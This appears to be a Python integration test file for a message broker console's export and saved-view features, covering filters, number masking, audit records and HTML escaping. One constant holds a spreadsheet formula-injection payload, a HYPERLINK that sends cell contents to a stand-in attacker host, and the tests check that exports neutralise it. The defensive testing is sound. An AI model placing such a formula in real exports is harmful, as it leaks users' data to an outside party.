"""Lists as files, and names for them."""

import csv
import io
import re
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from html import unescape
from typing import Any

import orjson

from broker.console.export import FIELDS, Export
from broker.domain.deed import DeedQuery
from broker.domain.ids import new_id
from broker.domain.status import Event
from broker.keyspace.client import open_async
from broker.keyspace.unrecorded import Unrecorded
from broker.services.audit import Audit
from broker.services.browse import Browse
from broker.services.logbook import Logbook
from broker.services.lookup import Lookup
from broker.services.sql import AsyncSql
from broker.storage import audit, messages
from broker.storage.messages import Fresh
from tests.factories import NOW_MS, make_message
from tests.integration.console.conftest import Console, Person
from tests.integration.console.filling import NUMBER, OTHER, fill

FILE = "/console/messages/export"
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"look")'


async def rows(one: Person, query: str = "") -> list[dict[str, str]]:
    """Return the lines of a CSV file."""
    answer = await one.get(f"{FILE}?format=csv{query}")
    assert answer.status == 200, answer.seen
    assert answer.headers["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text)))


def add(console: Console, number: int, **changes: Any) -> list[str]:
    """Put in messages on their way, and return their ids."""
    fresh = [
        Fresh(message=make_message(id=new_id(), **changes), event=Event.CLAIM, due_at=NOW_MS)
        for _ in range(number)
    ]
    console.database.write(lambda sql: messages.add(sql, fresh))
    return [one.message.id for one in fresh]


async def test_a_list_is_a_file_of_the_same_messages_with_the_same_filters(console: Console) -> None:
    filled = fill(console.database, console.settings)
    more = add(console, 520)
    one = await console.person("vera")
    found = await rows(one)
    assert [row["id"] for row in found] == sorted(
        [filled.delivered, filled.rejected, filled.inbound, *more], reverse=True
    )
    assert tuple(found[0]) == FIELDS
    assert [row["id"] for row in await rows(one, "&status=bad")] == [filled.rejected]
    page = await one.get("/console/messages?direction=in")
    (path,) = re.findall(r'href="([^"]+format=jsonl)"', page.text)
    answer = await one.get(unescape(path))
    (line,) = [orjson.loads(text) for text in answer.text.splitlines()]
    assert (line["id"], line["direction"], line["kind"], line["parts"]) == (filled.inbound, "in", "mms", 2)
    assert 'filename="messages-' in answer.headers["Content-Disposition"]
    for wrong in ("format=xls", "status=odd", "q=x", "cursor=1"):
        assert (await one.get(f"{FILE}?{wrong}")).status == 422


async def test_nothing_in_a_file_is_a_formula_and_it_holds_no_text(console: Console) -> None:
    filled = fill(console.database, console.settings)
    (name,) = add(console, 1, reference=FORMULA, account="@acme")
    one = await console.person("ada")
    answer = await one.get(f"{FILE}?format=csv")
    found = {row["id"]: row for row in csv.DictReader(io.StringIO(answer.text))}
    assert found[name]["reference"] == "'" + FORMULA
    for row in found.values():
        assert not any(cell[:1] in set("=+-@\t\r") for cell in row.values() if cell), row
    assert "alert(1)" not in answer.text
    assert found[filled.delivered]["status"] == "delivered"


async def test_numbers_are_masked_but_for_who_may_read_content_and_it_is_on_record(console: Console) -> None:
    filled = fill(console.database, console.settings)
    for name, whole in (("vera", False), ("oscar", False), ("connie", True), ("ada", True)):
        one = await console.person(name)
        answer = await one.get(f"{FILE}?format=jsonl&address=%2B4420*&account=acme")
        (row,) = [orjson.loads(text) for text in answer.text.splitlines()]
        assert (row["id"], row["to"]) == (filled.rejected, OTHER if whole else "+4420***0018")
        assert (NUMBER in (await one.get(f"{FILE}?format=csv")).text) is whole
        noted = console.database.read(lambda sql: audit.page(sql, DeedQuery(action="messages export")))[0]
        assert (noted[1].operator, noted[1].subject) == (name, "acme")
        assert noted[1].details == {"account": "acme", "address": "+4***", "format": "jsonl"}
        assert "masked" in (await one.get("/console/messages")).seen or whole


async def test_a_file_ends_at_its_bound_and_says_where_the_rest_is(console: Console) -> None:
    ids = sorted(add(console, 5))
    client = open_async(console.settings.redis_url, console.settings)
    with ThreadPoolExecutor(2) as threads:
        sql, unrecorded = AsyncSql(console.database, threads), Unrecorded(client)
        lookup = Lookup(console.database, unrecorded, threads)
        browse = Browse(sql, unrecorded, lookup, Logbook(sql, known=dict, keep_s=60))
        export = Export(browse, Audit(sql), most=3)
        pages = [page async for page in export.pages({})]
    await client.aclose()
    assert [one.id for page in pages for one in page.messages] == ids[::-1][:3]
    assert pages[-1].older == ids[2]


async def test_no_bar_leads_to_a_wider_list_than_the_one_it_stands_over(console: Console) -> None:
    for at in (0, 2, 5, 100, 400, 405):
        made_ms = NOW_MS + 1000 * at
        one = make_message(id=new_id(made_ms), created_at=datetime.fromtimestamp(made_ms / 1000, tz=UTC))
        fresh = Fresh(message=one, event=Event.CLAIM, due_at=NOW_MS)
        console.database.write(lambda sql, fresh=fresh: messages.add(sql, [fresh]))
    person = await console.person()
    since, until = (datetime.fromtimestamp(NOW_MS / 1000 + at, tz=UTC) for at in (4, 403))
    asked = f"since={since:%Y-%m-%dT%H:%M:%S}&until={until:%Y-%m-%dT%H:%M:%S}"
    page = await person.get(f"/console/messages?{asked}")
    table = page.text.partition("</svg>")[2].partition("</table>")[0]
    found = re.findall(r'<a href="([^"]+)">(\d+)<', table)
    assert sum(int(number) for _, number in found) == 3
    for path, number in found:
        listed = await person.get(unescape(path))
        assert len(re.findall(r'title="([0-9a-f-]{36})"', listed.text)) == int(number), path


async def test_a_view_is_a_persons_own_name_for_filters(console: Console) -> None:
    one, other = await console.person("vera"), await console.person("oscar")
    query = "status=bad&account=acme"
    answer = await one.post(
        "/console/views/save", {"name": "<b>bad</b>", "query": f"{query}&cursor=x&evil=1"}
    )
    assert (answer.status, answer.headers["Location"]) == (303, f"/console/messages?{query}")
    page = await one.get("/console/messages")
    assert 'href="/console/messages?status=bad&amp;account=acme">&lt;b&gt;bad&lt;/b&gt;</a>' in page.text
    assert "bad</b>" not in (await other.get("/console/messages")).text
    await one.post("/console/views/save", {"name": "<b>bad</b>", "query": "status=open"})
    page = await one.get("/console/messages?status=open")
    assert 'href="/console/messages?status=open" aria-current="true">' in page.text
    assert "account=acme" not in page.text
    await other.post("/console/views/remove", {"name": "<b>bad</b>"})
    assert "&lt;b&gt;bad" in (await one.get("/console/messages")).text, "it is not theirs"
    await one.post("/console/views/remove", {"name": "<b>bad</b>"})
    assert "&lt;b&gt;bad" not in (await one.get("/console/messages")).text


async def test_a_view_needs_a_name_and_filters_holds_no_whole_number_and_there_are_so_many(
    console: Console,
) -> None:
    one = await console.person("vera")
    for name, query in (
        ("", "status=bad"),
        ("x" * 65, "status=bad"),
        ("x", ""),
        ("x", "status=odd"),
        ("x", "address=%2B12025550101"),
        ("x", "q=%2B12025550101"),
        ("x", "address=%2B120255501*"),
        ("x", "address=%2B1202555010*"),
        ("x", "tag=to=%2B12025550101"),
        ("x", "error=12025550101"),
        ("x", "cause=no+route+to+%2B12025550101"),
        ("about +12025550101", "status=bad"),
        ("x", "account=%2B12025550101"),
        ("x", "account=nobody"),
        ("x", "connection=12025550101"),
        ("x", "account=acme&connection=nobody"),
    ):
        assert (await one.post("/console/views/save", {"name": name, "query": query})).status == 422
    for number in range(30):
        form = {"name": f"v{number}", "query": "address=%2B1202555*&account=acme&connection=bandwidth-1"}
        assert (await one.post("/console/views/save", form)).status == 303
    assert (await one.post("/console/views/save", {"name": "v30", "query": "status=bad"})).status == 422
    assert (await one.post("/console/views/save", {"name": "v3", "query": "status=bad"})).status == 303
